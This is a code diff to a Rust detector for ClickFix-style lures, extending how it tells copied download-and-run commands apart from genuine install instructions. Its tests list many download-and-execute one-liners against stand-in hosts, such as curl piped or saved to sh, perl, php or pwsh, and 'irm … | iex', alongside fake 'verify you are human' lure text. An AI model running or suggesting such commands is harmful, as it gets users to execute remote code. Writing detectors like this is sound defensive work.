@@ -240,6 +240,13 @@ impl Command {
         }
         let mut level = 0;
         for t in tokens(&self.flat) {
+            // No scheme: fetched over plain http.
+            if let Some(h) = bare_host(t) {
+                if public_host(h) && !same_site(h, page_site) {
+                    level = 1;
+                }
+                continue;
+            }
             let Some(i) = t.find("://") else { continue };
             let host = host_of(t);
             if public_host(&host) {
@@ -341,7 +348,7 @@ pub struct ClickFix {
 fn flatten(raw: &str) -> String {
     let raw = join_quoted(raw);
     let mut out = String::with_capacity(raw.len());
-    let mut space = false;
+    let (mut space, mut line) = (false, false);
     for c in raw.chars() {
         if is_invisible(c) || matches!(c, '^' | '`' | '"' | '\'' | '\u{2018}'..='\u{201F}') {
             continue;
@@ -352,12 +359,18 @@ fn flatten(raw: &str) -> String {
         };
         if c.is_whitespace() || c.is_control() {
             space = !out.is_empty();
+            line |= c == '\n';
             continue;
         }
         if space {
             out.push(' ');
             space = false;
         }
+        // A line break ends a command: a `.` starting a line sources a file (review 30 MH-M1).
+        if c == '.' && line {
+            out.push(';');
+        }
+        line = false;
         // Only ASCII names run: a look-alike letter makes a program name that does not exist.
         out.push(c.to_ascii_lowercase());
     }
@@ -399,10 +412,26 @@ fn join_quoted(raw: &str) -> std::borrow::Cow<'_, str> {
 
 /// Tokens of a flattened command: separated by spaces and shell punctuation.
 fn tokens(flat: &str) -> Vec<&str> {
-    flat.split([' ', '|', ';', '&', '(', ')', '{', '}', ','])
-        .filter(|t| !t.is_empty())
-        .take(512)
-        .collect()
+    spans(flat).into_iter().map(|(_, t)| t).collect()
+}
+
+/// [`tokens`] with the byte offset each starts at (at most 512).
+#[inline(never)]
+fn spans(flat: &str) -> Vec<(usize, &str)> {
+    let mut out = Vec::new();
+    let mut start = None;
+    // The separators are ASCII: no byte of a multi-byte character is one.
+    for (i, b) in flat.bytes().chain([b' ']).enumerate() {
+        if b" |;&(){},".contains(&b) {
+            if let Some(s) = start.take() {
+                out.push((s, &flat[s..i]));
+            }
+        } else if start.is_none() {
+            start = Some(i);
+        }
+    }
+    out.truncate(512);
+    out
 }
 
 /// The program name of a token: `C:\Windows\System32\mshta.exe` → `mshta`.
@@ -432,7 +461,46 @@ fn has_word(flat: &str, word: &str) -> bool {
 }
 
 fn has_url(flat: &str) -> bool {
-    has(flat, "http:") || has(flat, "https:") || unc_reaches_out(flat) || has(flat, "ftp:")
+    has(flat, "http:")
+        || has(flat, "https:")
+        || unc_reaches_out(flat)
+        || has(flat, "ftp:")
+        || tokens(flat).iter().any(|t| bare_host(t).is_some())
+}
+
+/// The host of a web address written without a scheme (`cdn.example.net/r.exe`,
+/// `host.test:8080/x`), which PowerShell and curl fetch over http (review 31 MAIN-M1): a dotted
+/// name whose last label is two letters or more, then a path. A file name (`setup.exe`) has no
+/// path; a bare host (`get.example.sh`) is left unread, as an installer's root.
+#[inline(never)]
+fn bare_host(t: &str) -> Option<&str> {
+    let b = t.as_bytes();
+    let end = b.iter().position(|&c| c == b'/' || c == b':')?;
+    let host = &b[..end];
+    let dot = host.iter().rposition(|&c| c == b'.')?;
+    (b[end..].contains(&b'/')
+        && host[0].is_ascii_alphanumeric()
+        && host
+            .iter()
+            .all(|&c| c.is_ascii_alphanumeric() || c == b'.' || c == b'-')
+        && host.len() - dot > 2
+        && host[dot + 1..].iter().all(u8::is_ascii_lowercase))
+    .then(|| &t[..end])
+}
+
+/// An address whose download is not the site's own publication though it is on the site: its
+/// path goes through a site's upload folder (what its users, or whoever broke in, put there:
+/// `/wp-content/uploads/…`, `/wp-includes/`), or it names another address a redirect leads to (`/go?to=host/x`,
+/// `?u=https%3a%2f%2f…`): review 31 MAIN-M2. `addr` is the address after its scheme.
+#[inline(never)]
+fn borrowed(addr: &str) -> bool {
+    ["/wp-", "/upload", "/sites/default/files/", "://", "%2f%2f"]
+        .iter()
+        .any(|w| has(addr, w))
+        || addr
+            .bytes()
+            .enumerate()
+            .any(|(i, c)| c == b'=' && bare_host(&addr[i + 1..]).is_some())
 }
 
 /// The host of the first UNC path of `flat` (empty when there is none).
@@ -562,10 +630,25 @@ fn dns_payload(flat: &str) -> bool {
 }
 
 /// Shells (the first six) and interpreters: what runs a program given to it on a pipe or as a
-/// file.
+/// file; the last two run only a file (`awk -f FILE`, `installer -pkg FILE`: a macOS package's
+/// scripts run as root), never what a pipe gives them (`| awk '{print $1}'` reads data).
 const RUNNERS: &[&str] = &[
-    "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "perl", "ruby", "node",
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "ksh",
+    "fish",
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "node",
+    "php",
+    "pwsh",
     "source",
+    "awk",
+    "installer",
 ];
 
 /// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`). An interpreter that runs the
@@ -577,7 +660,7 @@ fn piped_to_shell(flat: &str) -> bool {
         let name = args
             .find(|t| *t != "sudo" && !t.starts_with('-'))
             .map_or("", program);
-        match RUNNERS.iter().position(|s| *s == name) {
+        match RUNNERS[..RUNNERS.len() - 2].iter().position(|s| *s == name) {
             None => false,
             Some(i) if i < 6 => true,
             // Data only for `json.tool` among its leading options (`-u -m json.tool`,
@@ -599,21 +682,45 @@ fn piped_to_shell(flat: &str) -> bool {
 /// the download saved, then run, a pipe to a shell by another road (review 29 MAIN-H2). Names
 /// are compared by their last path part: `-o /tmp/v`, `--output=/tmp/v`, `>/tmp/v` and the URL
 /// wget names its file by end in it. (A `.` elsewhere is an argument: `jq . data.json`.)
-fn runs_saved(flat: &str, toks: &[&str]) -> bool {
+/// Review 30 MH-M1: inline code (`-c`, `-e`, `-r`) naming the saved file runs it
+/// (`python3 -c "exec(open('/tmp/v').read())"`, `perl -e 'do "/tmp/v"'`), as code reading a pipe
+/// does; and after an archive is unpacked (`unzip`, `tar x…`) the file a runner is given may be
+/// the archive's.
+#[inline(never)]
+fn runs_saved(flat: &str) -> bool {
     fn name(t: &str) -> &str {
-        t.rsplit('/').next().unwrap_or("")
+        &t[t.bytes().rposition(|c| c == b'/').map_or(0, |i| i + 1)..]
     }
-    toks.iter().enumerate().any(|(i, t)| {
-        let at = t.as_ptr() as usize - flat.as_ptr() as usize;
-        (RUNNERS.contains(&program(t))
-            || *t == "." && flat[..at].trim_end().ends_with([';', '&', '|']))
-            && toks[i + 1..]
-                .iter()
-                .find(|a| !a.starts_with('-'))
-                .is_some_and(|f| {
-                    let f = name(f);
-                    !f.is_empty() && toks[..i].iter().any(|e| name(e) == f)
-                })
+    let toks = spans(flat);
+    let mut unpacked = false;
+    toks.iter().enumerate().any(|(i, &(at, t))| {
+        let p = program(t);
+        let args = &toks[i + 1..];
+        unpacked |= p == "unzip" || p == "tar" && args.first().is_some_and(|a| a.1.contains('x'));
+        // A `.` sources a file only where a command starts (a line break is a `;`: `flatten`).
+        let start = flat[..at]
+            .trim_end()
+            .bytes()
+            .last()
+            .is_none_or(|b| matches!(b, b';' | b'&' | b'|'));
+        if !(RUNNERS.contains(&p) || t == "." && start) {
+            return false;
+        }
+        let saved = |f: &str| {
+            let f = name(f);
+            !f.is_empty() && toks[..i].iter().any(|e| name(e.1) == f)
+        };
+        // Inline code may hold `;`: every later word is read.
+        if args
+            .iter()
+            .take_while(|a| a.1.starts_with('-'))
+            .any(|a| matches!(a.1, "-c" | "-e" | "-r"))
+        {
+            return args.iter().any(|a| saved(a.1));
+        }
+        args.iter()
+            .find(|a| !a.1.starts_with('-'))
+            .is_some_and(|a| unpacked || saved(a.1))
     })
 }
 
@@ -784,7 +891,7 @@ fn shapes(flat: &str) -> Vec<Shape> {
         program(w[0]) == "base64" && matches!(w[1], "-d" | "-D" | "--decode" | "-di" | "-id")
     });
     let to_shell = piped_to_shell(flat)
-        || runs_saved(flat, &toks)
+        || runs_saved(flat)
         || ["sh", "bash", "zsh"].iter().any(|s| {
             toks.windows(2)
                 .any(|w| program(w[0]) == *s && (w[1] == "-c" || w[1].starts_with("<")))
@@ -815,11 +922,18 @@ fn shapes(flat: &str) -> Vec<Shape> {
 }
 
 /// An argument that is a public IP with no scheme (`mshta 198.51.100.3/v`): mshta fetches it.
+/// A dotted quad: a version (`--version 1.2.3`) or a `.` is no address.
 fn public_ip_arg(toks: &[&str]) -> bool {
     toks.iter().any(|t| {
-        let host = t.split('/').next().unwrap_or("");
-        host.contains('.')
-            && host.bytes().all(|b| b.is_ascii_digit() || b == b'.')
+        let host = &t[..t
+            .bytes()
+            .position(|c| c == b'/' || c == b':')
+            .unwrap_or(t.len())];
+        host.bytes().all(|b| b.is_ascii_digit() || b == b'.')
+            && host.bytes().filter(|&b| b == b'.').count() == 3
+            && !host.starts_with('.')
+            && !host.ends_with('.')
+            && !has(host, "..")
             && public_host(host)
     })
 }
@@ -921,13 +1035,15 @@ fn split_padding(raw: &str) -> Option<(&str, &str)> {
 /// Whether every address in `flat` is one an install page publishes: `https://` to a host name
 /// (not a bare IP); for a Windows command, with no path or a path naming a `.ps1` script or an
 /// `.msi` package. Lures fetch `http://203.0.113.5/x`, `/verify`, `/p.txt`, a UNC share.
+#[inline(never)]
 fn published(flat: &str, windows: bool) -> bool {
     if has(flat, "http:") || unc_reaches_out(flat) || has(flat, "ftp:") {
         return false;
     }
     tokens(flat).iter().all(|t| {
         let Some(i) = t.find("://") else {
-            return true;
+            // No scheme: PowerShell fetches it over http (review 31 MAIN-M1).
+            return !windows || bare_host(t).is_none();
         };
         let rest = &t[i + 3..];
         let (host, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
@@ -938,8 +1054,34 @@ fn published(flat: &str, windows: bool) -> bool {
             .is_some_and(|tld| tld.bytes().any(|b| b.is_ascii_alphabetic()));
         t[..i].ends_with("https")
             && tld_is_name
+            && !borrowed(rest)
             && (!windows || path.len() <= 1 || path.ends_with(".ps1") || path.ends_with(".msi"))
     })
+}
+
+/// The registrable domains `flat` fetches from, when every address is `https://` to a host name
+/// or has no scheme (empty otherwise). A host that serves anyone's content, a site's upload
+/// folder and a redirect are nobody's own site: `-`, which never matches the page's.
+#[inline(never)]
+fn sites(flat: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    if published(flat, false) {
+        for t in tokens(flat) {
+            let at = t.find("://").map(|i| i + 3);
+            if at.is_none() && bare_host(t).is_none() {
+                continue;
+            }
+            let host = host_of(t);
+            out.push(
+                if is_user_content(&host) || borrowed(&t[at.unwrap_or(0)..]) {
+                    String::from("-")
+                } else {
+                    registrable(&host)
+                },
+            );
+        }
+    }
+    out
 }
 
 /// Reads the copied text. `None` when it is not a command this module recognises.
@@ -973,23 +1115,7 @@ pub fn recognise(raw: &str) -> Option<Command> {
         comment: defang(&comment.chars().take(60).collect::<String>()),
         flat: flatten(cmd_part),
         published: published(&flat, windows),
-        https_sites: if published(&flat, false) {
-            tokens(&flat)
-                .iter()
-                .filter(|t| t.contains("://"))
-                .map(|t| {
-                    let host = host_of(t);
-                    // A user-content host is nobody's own site: it never matches the page's.
-                    if is_user_content(&host) {
-                        String::from("-")
-                    } else {
-                        registrable(&host)
-                    }
-                })
-                .collect()
-        } else {
-            Vec::new()
-        },
+        https_sites: sites(&flat),
     })
 }
 
@@ -1236,6 +1362,7 @@ impl PageHits {
             && !has(addr, "..")
             && !has(addr, "\\")
             && !has(addr, "$")
+            && !borrowed(addr)
             && (Site::new(&host_of(url)).own_label().is_some_and(owns)
                 || addr
                     .strip_prefix("github.com/")
@@ -2282,6 +2409,23 @@ mod tests {
             "curl -fsSL https://x.example/v -o /tmp/v\nsh /tmp/v",
             "wget -q https://x.example/run.pl && perl run.pl",
             "wget -qO /tmp/v https://x.example/v; zsh /tmp/v",
+            // Review 30 MH-M1: `.` starting a line, inline code naming the saved file, a file
+            // run after a flag, an archive unpacked and then run, php and pwsh.
+            "curl -fsSL https://cdn.example.net/v -o /tmp/v\n. /tmp/v",
+            "curl -fsSL https://cdn.example.net/v -o /tmp/v; python3 -c \"exec(open('/tmp/v').read())\"",
+            "curl -fsSL https://cdn.example.net/v -o /tmp/v; python3 -c \"import os; exec(open('/tmp/v').read())\"",
+            "curl -fsSL https://cdn.example.net/v -o /tmp/v; perl -e 'do \"/tmp/v\"'",
+            "curl -fsSL https://cdn.example.net/v -o v.rb && ruby -e 'load \"v.rb\"'",
+            "curl -fsSL https://cdn.example.net/v -o /tmp/v; awk -f /tmp/v",
+            "curl -fsSL https://cdn.example.net/v.pkg -o /tmp/v.pkg && sudo installer -pkg \
+             /tmp/v.pkg -target /",
+            "curl -fsSL https://cdn.example.net/v.zip -o /tmp/v.zip && unzip -oq /tmp/v.zip -d \
+             /tmp/x && sh /tmp/x/run.sh",
+            "curl -fsSL https://cdn.example.net/v.tgz | tar xz -C /tmp && sh /tmp/setup",
+            "wget https://x.example/tool.tar.gz && tar xzf tool.tar.gz && sh configure",
+            "curl -fsSL https://cdn.example.net/v.php -o /tmp/v.php; php /tmp/v.php",
+            "curl -fsSL https://cdn.example.net/v | php",
+            "curl -fsSL https://cdn.example.net/v -o /tmp/v; pwsh /tmp/v",
         ] {
             assert_eq!(shapes_of(c), vec![Shape::PipeToShell], "{c}");
         }
@@ -2289,8 +2433,12 @@ mod tests {
         for c in [
             "curl -o data.json https://api.example/v1/users && python3 -m json.tool data.json",
             "curl -o data.csv https://api.example/export; python3 report.py data.csv",
-            "wget https://x.example/tool.tar.gz && tar xzf tool.tar.gz && sh configure",
             "curl -o data.json https://api.example/v1/users && jq . data.json",
+            "curl -o data.csv https://api.example/export\nawk '{print $1}' data.csv",
+            "curl -o data.csv https://api.example/export\nawk -F, -f report.awk data.csv",
+            "curl -o data.csv https://api.example/export\n. venv/bin/activate",
+            "curl -o data.csv https://api.example/export | awk '{print $1}'",
+            "curl -o site.tgz https://x.example/s.tgz && tar czf backup.tgz site && ls",
         ] {
             assert!(shapes_of(c).is_empty(), "{c}");
         }
@@ -2301,16 +2449,33 @@ mod tests {
              Terminal), press Cmd + V and press Return."
         ));
         // An install page showing the convenience script it copies stays silent, as its
-        // `curl … | sh` does.
-        let docker =
-            "curl -fsSL https://get.example.test -o get-example.sh; sudo sh get-example.sh";
-        assert!(!judged(
-            docker,
-            &format!(
-                "Install using the convenience script. Run the following in your terminal, then \
-                 press Enter. Open Terminal (Cmd + Space, Terminal) and paste: {docker}"
-            )
-        ));
+        // `curl … | sh` does; so do a source build and a macOS package under install words.
+        for docs in [
+            "curl -fsSL https://get.example.test -o get-example.sh; sudo sh get-example.sh",
+            "wget https://dl.example.test/tool-2.1.tar.gz && tar xzf tool-2.1.tar.gz && sh \
+             tool-2.1/configure",
+            "curl -fsSLO https://dl.example.test/Tool-2.1.pkg && sudo installer -pkg \
+             Tool-2.1.pkg -target /",
+        ] {
+            assert!(!judged(
+                docs,
+                &format!(
+                    "Install using the convenience script. Run the following in your terminal, \
+                     then press Enter. Open Terminal (Cmd + Space, Terminal) and paste: {docs}"
+                )
+            ));
+        }
+        for lure in [
+            "curl -fsSL https://cdn.example.net/v -o /tmp/v\n. /tmp/v",
+            "curl -fsSL https://cdn.example.net/v.tgz | tar xz -C /tmp && sh /tmp/setup",
+            "curl -fsSL https://cdn.example.net/v -o /tmp/v; perl -e 'do \"/tmp/v\"'",
+        ] {
+            assert!(judged(
+                lure,
+                "Verify you are human. To finish the check, open Terminal (Cmd + Space, type \
+                 Terminal), press Cmd + V and press Return."
+            ));
+        }
     }
 
     #[test]
@@ -3865,6 +4030,20 @@ mod tests {
              x\\\\203.0.113.44\\d\\r.exe; Start-Process \\\\203.0.113.44\\d\\r.exe",
             "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile .\\r.exe; Start-Process \
              powershell -ArgumentList .\\r.exe",
+            // No scheme: PowerShell fetches it over http (review 31 MAIN-M1).
+            "Invoke-WebRequest cdn.kit.test/r.exe -OutFile $env:TEMP\\r.exe; Start-Process \
+             $env:TEMP\\r.exe",
+            "iwr cdn.kit.test:8080/r.msi -OutFile $env:TEMP\\r.msi; Start-Process msiexec \
+             -ArgumentList /i, $env:TEMP\\r.msi",
+            // On the site itself, but in its upload folder or behind its redirect (review 31
+            // MAIN-M2): what a kit on a broken-into site uploads, or where it sends the fetch.
+            "Invoke-WebRequest -Uri https://rosebakery.example/wp-content/uploads/2026/11/r.exe \
+             -OutFile $env:TEMP\\r.exe; Start-Process $env:TEMP\\r.exe",
+            "Invoke-WebRequest -Uri https://www.rosebakery.example/go?to=cdn.kit.test/r -OutFile \
+             $env:TEMP\\r.exe; Start-Process $env:TEMP\\r.exe",
+            "Invoke-WebRequest -Uri https://rosebakery.example/out?u=https%3A%2F%2Fcdn.kit.test%2Fr \
+             -OutFile $env:TEMP\\r.exe; Start-Process $env:TEMP\\r.exe",
+            "irm https://rosebakery.example/uploads/fix.ps1 | iex",
         ] {
             let s = snap_of(
                 "https://rosebakery.example/menu",
@@ -3956,6 +4135,53 @@ mod tests {
         );
         let s = snap_of("https://hammer.example/docs/", "Install Hammer", &text, c);
         assert!(reasons(&s).is_some(), "{text}");
+    }
+
+    #[test]
+    fn own_site_downloads_and_addresses_without_a_scheme() {
+        // Invented vendor pages downloading from their own site (a release folder, a short
+        // address without a scheme, a bare host) stay documentation; the same command on another
+        // site, or from the site's upload folder or through its redirect, is not.
+        let text = "Install Quillmark for Windows\nPress Win+X and choose Windows PowerShell \
+                    (Admin), then run the following command:\n{c}\nCopy";
+        for c in [
+            "Invoke-WebRequest -Uri https://quillmark.example/downloads/QuillmarkSetup.exe \
+             -OutFile $env:TEMP\\QuillmarkSetup.exe; Start-Process $env:TEMP\\QuillmarkSetup.exe",
+            "irm quillmark.example/win | iex",
+            "irm get.quillmark.example | iex",
+            "irm https://www.quillmark.example/install.ps1?channel=stable | iex",
+        ] {
+            let t = text.replace("{c}", c);
+            let s = snap_of("https://www.quillmark.example/docs", "Quillmark", &t, c);
+            assert_eq!(reasons(&s), None, "{c}");
+        }
+        for (url, c) in [
+            (
+                "https://mirror-dl.example/",
+                "irm quillmark.example/win | iex",
+            ),
+            (
+                "https://www.quillmark.example/docs",
+                "irm https://quillmark.example/wp-content/uploads/win.ps1 | iex",
+            ),
+            (
+                "https://www.quillmark.example/docs",
+                "irm https://quillmark.example/r?url=https://cdn.kit.test/w | iex",
+            ),
+        ] {
+            let t = text.replace("{c}", c);
+            let s = snap_of(url, "Quillmark", &t, c);
+            assert!(reasons(&s).is_some(), "{c}");
+        }
+        // A version is no address (`--version 1.2.3` was read as a public IP: a docs page warned).
+        let c = "curl -fsSL https://get.quillmark.example/install.sh | sh -s -- --version 1.2.3";
+        let t = format!("Install Quillmark on macOS\nOpen Terminal and run:\n{c}\nCopy");
+        let s = snap_of("https://docs.quillmark.example/", "Install", &t, "");
+        assert_eq!(reasons(&s), None);
+        let s = snap_of("https://docs.quillmark.example/", "Install", &t, c);
+        assert_eq!(reasons(&s), None);
+        assert!(!shapes_of("mshta 1.2.3").contains(&Shape::MshtaUrl));
+        assert!(shapes_of("mshta 198.51.100.3:80/v").contains(&Shape::MshtaUrl));
     }
 
     #[test]
